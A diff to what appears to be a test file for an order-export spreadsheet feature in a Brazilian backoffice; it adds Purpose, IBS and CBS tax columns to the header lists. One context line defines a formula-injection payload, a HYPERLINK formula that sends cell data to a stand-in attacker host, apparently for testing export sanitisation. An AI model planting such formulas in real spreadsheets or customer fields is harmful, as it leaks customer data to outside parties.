@@ -32,12 +32,12 @@ XLSX_URL = "/backoffice/orders/export.xlsx"
 PT_HEADERS = [
     "Pedido", "Pedido na loja", "Canal", "Marketplace", "Status", "Criado em", "Cliente", "CPF/CNPJ",
     "E-mail", "Subtotal", "Frete", "Desconto", "Total", "Pagamento", "NF-e", "Série", "Emitida em",
-    "Chave de acesso", "Transportadora", "Rastreio",
+    "Chave de acesso", "Finalidade", "IBS", "CBS", "Transportadora", "Rastreio",
 ]  # fmt: skip
 EN_HEADERS = [
     "Order", "Store order", "Channel", "Marketplace", "Status", "Created at", "Customer", "CPF/CNPJ",
     "E-mail", "Subtotal", "Shipping", "Discount", "Total", "Payment", "NF-e", "Series", "Issued at",
-    "Access key", "Carrier", "Tracking",
+    "Access key", "Purpose", "IBS", "CBS", "Carrier", "Tracking",
 ]  # fmt: skip
 LINE_HEADERS = ["SKU", "Descrição", "Quantidade", "Preço unitário", "Desconto do item", "Total do item"]
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Clique")'
